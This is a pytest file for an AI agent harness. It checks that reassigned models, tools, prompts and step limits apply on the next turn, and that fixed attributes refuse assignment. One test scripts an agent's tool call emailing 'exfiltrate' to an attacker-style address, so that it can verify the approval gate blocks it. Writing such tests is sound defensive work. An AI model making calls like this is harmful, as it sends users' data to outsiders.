"""The agent's attributes do what they say: the model, the tools, the system prompt and the step
limit assigned between turns are the next turn's (tools behind the approval gate like every
tool), and what the agent is built on cannot be assigned at all: assigning it raises and says
how to get another, instead of changing the attribute and nothing the agent does."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from filesystems import Fixed
from harness import ConfigError, Harness, RuntimeContext, StepLimitExceeded
from harness.agent import (
    ControlOptions,
    LearningOptions,
    PatternPolicy,
    PipelineOptions,
    ToolRequest,
    ToolReturned,
    TrustOptions,
)
from harness.models import DemoModel, Message, ScriptedModel, ToolCall
from harness.pipeline import SkillPipeline
from harness.tools import tool

ALICE = RuntimeContext(user_id="alice", session_id="s1")


def _call(name: str, call_id: str = "c1", /, **arguments: object) -> Message:
    return Message.assistant("", [ToolCall(id=call_id, name=name, arguments=dict(arguments))])


async def test_an_assigned_model_answers_the_next_turn_and_is_closed_with_the_agent(tmp_path: Path) -> None:
    first, second = ScriptedModel(["from the first"]), ScriptedModel(["from the second"])
    async with Harness(model=first, workspace=tmp_path) as agent:
        assert (await agent.run("hi", context=ALICE)).reply == "from the first"
        agent.model = second
        assert agent.model is second
        assert (await agent.run("hi", context=ALICE)).reply == "from the second"
        assert len(first.calls) == 1 and len(second.calls) == 1
        agent.model = "demo"  # an open_model spec, opened once however often it is assigned
        demo = agent.model
        assert isinstance(demo, DemoModel)
        agent.model = second
        agent.model = "demo"
        assert agent.model is demo
        assert (await agent.run("hello", context=ALICE)).reply.startswith("I have no skills available")
        assert not first.closed and not second.closed
    assert first.closed and second.closed and demo.closed


async def test_assigned_tools_are_offered_next_turn_behind_the_approval_gate(tmp_path: Path) -> None:
    sent: list[str] = []
    asked: list[ToolRequest] = []

    @tool(requires_approval=True)
    async def send_email(to: str, body: str) -> str:
        """Send an email."""
        sent.append(to)
        return "sent"

    @tool
    async def lookup(name: str) -> str:
        """Look a name up."""
        return name.upper()

    async def refuse(request: ToolRequest) -> bool:
        asked.append(request)
        return False

    model = ScriptedModel(
        [
            _call("send_email", "e0", to="eve@evil.test", body="before"),
            "no such tool yet",
            _call("send_email", "e1", to="eve@evil.test", body="exfiltrate"),
            _call("lookup", "l1", name="ann"),
            "done",
        ]
    )
    policy = PatternPolicy([], default="ask")
    async with Harness(
        model=model, workspace=tmp_path, control=ControlOptions(approval=policy, approver=refuse)
    ) as agent:
        before = await agent.run("mail eve", context=ALICE)
        agent.tools = [send_email, lookup]
        after = await agent.run("mail eve", context=ALICE)
    (unknown,) = [e for e in before.events if isinstance(e, ToolReturned)]
    assert unknown.error and "send_email" in unknown.content
    offered = {spec.name for spec in model.calls[2].tools}
    assert {"send_email", "lookup"} <= offered and not {"send_email", "lookup"} & {s.name for s in model.calls[0].tools}
    # The gate saw the exact call and its refusal kept the tool from running; the ungated one ran.
    assert [(r.tool, r.arguments) for r in asked] == [("send_email", {"to": "eve@evil.test", "body": "exfiltrate"})]
    assert sent == []
    results = {e.call_id: e for e in after.events if isinstance(e, ToolReturned)}
    assert results["e1"].error and "ToolDenied" in results["e1"].content
    assert results["l1"].content == "ANN"


async def test_tools_named_like_a_built_in_or_twice_are_refused_and_nothing_changes(tmp_path: Path) -> None:
    @tool
    async def lookup(name: str) -> str:
        """Look a name up."""
        return name

    @tool(name="read_file")
    async def mine(path: str) -> str:
        """Read a file my way."""
        return path

    agent = Harness(model=DemoModel(), workspace=tmp_path, tools=[lookup])
    with pytest.raises(ConfigError, match="'read_file' is the name of a built-in tool"):
        agent.tools = [mine]
    with pytest.raises(ConfigError, match="two tools are named 'lookup'"):
        agent.tools = [lookup, lookup]
    assert [t.name for t in agent.tools] == ["lookup"]
    with pytest.raises(AttributeError):
        agent.tools.append(mine)  # type: ignore[attr-defined]
    agent.tools = []
    assert agent.tools == ()


async def test_an_assigned_system_prompt_and_step_limit_are_the_next_turns(tmp_path: Path) -> None:
    model = ScriptedModel(["one", _call("list_files", "c1", path="."), "unreached"])
    async with Harness(model=model, workspace=tmp_path, system_prompt="You are terse.") as agent:
        await agent.run("hi", context=ALICE)
        agent.system_prompt = "You are a pirate."
        agent.max_steps = 1
        with pytest.raises(StepLimitExceeded, match="stopped after 1 model steps"):
            await agent.run("hi", context=ALICE)
        with pytest.raises(ValueError, match="max_steps must be at least 1"):
            agent.max_steps = 0
        assert agent.max_steps == 1 and agent.system_prompt == "You are a pirate."
    assert model.calls[0].messages[0].content.startswith("You are terse.")
    assert model.calls[1].messages[0].content.startswith("You are a pirate.")


FIXED = (
    "name",
    "filesystem",
    "repositories",
    "sessions",
    "trust",
    "control",
    "skill_names",
    "learning",
    "usage",
    "curator",
    "pipeline",
    "usage_relevance",
)


@pytest.mark.parametrize("attribute", FIXED)
def test_what_the_agent_is_built_on_raises_when_assigned(tmp_path: Path, attribute: str) -> None:
    agent = Harness(model=DemoModel(), workspace=tmp_path, learning=LearningOptions(loop=True))
    before = getattr(agent, attribute)
    with pytest.raises(AttributeError, match=rf"^Harness\.{attribute} is fixed when it is built; build "):
        setattr(agent, attribute, before)
    with pytest.raises(AttributeError, match=rf"^Harness\.{attribute} is fixed"):
        delattr(agent, attribute)
    assert getattr(agent, attribute) is before


def test_every_public_attribute_of_the_agent_is_honoured_or_fixed(tmp_path: Path) -> None:
    agent = Harness(model=DemoModel(), workspace=tmp_path, learning=True)
    public = sorted(name for name in vars(agent) if not name.startswith("_"))
    assert public == sorted(FIXED)
    assert all(isinstance(vars(Harness)[name], Fixed) for name in public)
    honoured = {"model", "tools", "system_prompt", "max_steps"}
    assert {n for n, v in vars(Harness).items() if isinstance(v, property) and v.fset is not None} == honoured


@pytest.mark.parametrize("attribute", ["filesystem", "skill_dirs", "labels", "lock", "stager", "environments"])
def test_what_a_pipeline_is_built_on_raises_when_assigned(tmp_path: Path, attribute: str) -> None:
    agent = Harness(model=DemoModel(), workspace=tmp_path)
    before = getattr(agent.pipeline, attribute)
    with pytest.raises(AttributeError, match=rf"^SkillPipeline\.{attribute} is fixed when it is built; "):
        setattr(agent.pipeline, attribute, before)
    assert getattr(agent.pipeline, attribute) is before


def test_every_public_attribute_of_a_pipeline_is_read_when_used_or_fixed(tmp_path: Path) -> None:
    pipeline = Harness(model=DemoModel(), workspace=tmp_path).pipeline
    plain = {name for name in vars(pipeline) if not name.startswith("_")}
    fixed = {name for name in plain if isinstance(vars(SkillPipeline).get(name), Fixed)}
    # Read by every turn (tests/pipeline: test_pipeline_refresh, test_learning_pipeline, below), and
    # by the upkeep before each of its waits.
    assert plain - fixed == {"dynamic_skills", "market_timeout", "visibility", "upkeep_interval"}
    settable = {n for n, v in vars(SkillPipeline).items() if isinstance(v, property) and v.fset is not None}
    assert settable == {"catalog_budget", "catalog_format", "relevance"}  # each renders the next catalogs anew


@pytest.mark.parametrize("options", [PipelineOptions(), TrustOptions(), ControlOptions(), LearningOptions()])
def test_the_option_groups_are_values_that_refuse_assignment(options: object) -> None:
    field = dataclasses.fields(options)[0].name  # type: ignore[arg-type]
    with pytest.raises(dataclasses.FrozenInstanceError):
        setattr(options, field, None)
